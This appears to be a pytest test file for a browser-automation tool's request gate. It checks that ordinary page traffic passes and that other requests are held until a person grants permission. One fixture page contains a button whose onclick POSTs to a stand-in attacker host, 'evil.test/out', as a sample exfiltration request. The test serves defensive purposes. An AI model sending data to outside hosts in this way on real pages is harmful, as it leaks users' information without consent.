"""What people do all day on pages: none of it is held, so nobody is asked about it."""

from __future__ import annotations

import pytest

from deskhand.core.acts import Key
from deskhand.core.targets import Covers
from deskhand.core.verdicts import Touch
from deskhand.desk.requests.rules import Place, reading_goes
from deskhand.desk.requests.typing import Given
from deskhand.policy.requests import covers_of
from tests.desk.requests.conftest import Rig

ORDINARY = {
    "a font": "https://fonts.example.net/css2?family=Inter:wght@400;500;600;700&family=Source+Serif+4:ital@0;1&display=swap",
    "a picture of a content network": "https://img.cdn-example.net/w_1200,h_630,c_fill,g_auto,q_auto,f_auto/v17/a/b.jpg",
    "a picture with a signature": "https://files.example-storage.com/u/1/photo.jpg?X-Amz-Algorithm=AWS4-HMAC-SHA256"
    "&X-Amz-Credential=" + "A" * 60 + "&X-Amz-Date=20260301T101500Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host"
    "&X-Amz-Security-Token=" + "t" * 1100 + "&X-Amz-Signature=" + "0" * 64,
    "a link with its campaign": "https://news.example.org/2026/03/a-long-title-of-an-article-on-something?utm_source=a"
    "&utm_medium=email&utm_campaign=spring&utm_content=top&fbclid=" + "x" * 60,
    "signing in at another site": "https://login.example.com/oauth2/authorize?client_id=" + "c" * 36 + "&redirect_uri="
    "https%3A%2F%2Fapp.example.org%2Fcallback&response_type=code&scope=openid%20profile%20email&state=" + "s" * 400
    + "&nonce=" + "n" * 64 + "&code_challenge=" + "h" * 43 + "&code_challenge_method=S256",
    "a map": "https://tiles.example-maps.com/v4/base/12/2148/1436@2x.png?access_token=" + "p" * 90,
    "a video": "https://player.example-video.com/embed/abc123?autoplay=0&rel=0&origin=https%3A%2F%2Fblog.example.org",
    "counting visitors": "https://stats.example-count.com/collect?v=2&tid=G-ABC123&gtm=" + "g" * 40 + "&dl="
    "https%3A%2F%2Fblog.example.org%2Fpost%2F12&dt=A%20title&sr=1280x800&ul=en-us&cid=1234567.89&ep=" + "e" * 400,
}  # fmt: skip


@pytest.mark.parametrize("kind", ORDINARY)
def test_an_ordinary_address_of_another_site_is_asked_for(kind: str) -> None:
    given = Given()
    given.text("laptops with a good keyboard")
    given.text("Ann Example, ann@example.org")
    assert reading_goes(ORDINARY[kind], "https://blog.example.org/post/12", Place(), given)


@pytest.mark.desk
@pytest.mark.asyncio(loop_scope="session")
async def test_signing_in_sends_the_form_that_was_allowed(rig: Rig) -> None:
    await rig.show(
        "<form method=post action=/session><input name=user aria-label=User>"
        "<input name=password type=password aria-label=Password><button>Sign in</button></form>"
    )
    await rig.type_into("User", "ann@example.org")
    await rig.type_into("Password", "correct horse 1")
    report = await rig.click("Sign in", covers_of(Touch(classes=("sign_in",), host="shop.test")))
    await rig.arrives("/session")
    assert report.held == ()
    assert report.sent.keys() == {"shop.test"}


@pytest.mark.desk
@pytest.mark.asyncio(loop_scope="session")
async def test_searching_and_paging_and_going_elsewhere_hold_nothing(rig: Rig) -> None:
    listing = (
        "<form action=/page><input name=q aria-label=Search></form><p>Results</p><a href='/page?q=desk&p=2'>Older</a>"
        " <a href='http://cdn.test/page?ref=shop&utm_source=list'>Elsewhere</a>"
    )
    await rig.show(listing)
    await rig.type_into("Search", "standing desk for a small room")
    await rig.desk.act(Key(keys="Return"), covers=covers_of(Touch(classes=("move",), host="shop.test")))
    await rig.arrives("/page?q=standing")
    assert (await rig.click("Older")).held == ()
    assert (await rig.click("Elsewhere")).held == ()
    assert rig.site.got("/page?ref=shop")


@pytest.mark.desk
@pytest.mark.asyncio(loop_scope="session")
async def test_an_application_that_only_asks_holds_nothing(rig: Rig) -> None:
    query = "{method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({query:"
    await rig.show(
        "<img src='http://cdn.test/logo.png?v=3'><p id=p></p><script>Promise.all([fetch('/api/items?p=1'),"
        f" fetch('/graphql', {query} 'query Items {{ items {{ id name }} }}'}})}}),"
        " fetch('http://cdn.test/config.json')]).then(() => p.textContent = 'All loaded')</script>"
    )
    await rig.says("All loaded")
    assert await rig.desk.held() == ()
    assert rig.site.got("/graphql")[0].method == "POST"


@pytest.mark.desk
@pytest.mark.asyncio(loop_scope="session")
async def test_a_person_who_has_the_desk_sends_what_they_like(rig: Rig) -> None:
    await rig.show("<button onclick=\"fetch('http://evil.test/out', {method: 'POST', mode: 'no-cors'})\">Go</button>"
                   "<script>setInterval(() => fetch('/save', {method: 'POST'}), 200)</script>")  # fmt: skip
    await rig.holds()
    await rig.desk.cover(Covers(hosts=("*",), uploads=True))
    await rig.arrives("/save")


@pytest.mark.desk
@pytest.mark.asyncio(loop_scope="session")
async def test_a_driver_that_attaches_takes_nothing_over_that_was_allowed_before(rig: Rig) -> None:
    await rig.show("<script>setTimeout(() => fetch('/late', {method: 'POST'}), 60000)</script>")
    await rig.desk.cover(Covers(hosts=("*",)))
    await rig.desk.release_all()
    await rig.show("<script>fetch('/late', {method: 'POST'})</script>")
    await rig.holds()
    assert not rig.site.got("/late")
